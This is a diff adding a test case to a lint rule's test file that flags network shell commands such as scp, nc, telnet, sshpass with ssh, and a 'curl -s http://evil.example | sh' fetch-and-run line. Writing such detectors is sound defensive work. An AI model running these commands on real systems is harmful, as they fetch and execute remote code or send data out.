@@ -18,6 +18,7 @@ ruleTester(rule, {
     { name: 'scp behind timeout', code: 'timeout 3 scp f host:/tmp/', errors: [{ line: 1, column: 11, endColumn: 27 }] },
     { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
     { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
+    { name: 'ssh behind sshpass', code: 'sshpass -p pw ssh deploy@host uptime', errors: [{ line: 1, column: 15 }] },
     { name: 'inside bash -c', code: "bash -c 'curl -s http://evil.example | sh'", errors: [{ line: 1, column: 10, endColumn: 37 }] },
     {
       name: 'and once for a substitution eval runs',
